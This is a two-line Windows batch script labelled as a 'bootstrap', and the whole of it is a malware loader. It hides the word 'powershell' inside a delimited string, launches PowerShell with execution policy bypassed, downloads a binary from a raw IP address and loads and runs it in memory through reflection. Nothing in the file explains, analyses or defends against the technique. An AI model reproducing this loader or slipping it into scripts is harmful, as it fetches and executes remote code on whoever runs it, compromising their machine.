REM bootstrap 5047 v4
for /f "tokens=3 delims=@" %%i in ("uoeu@rhki@powershell") do %%i -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.23/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
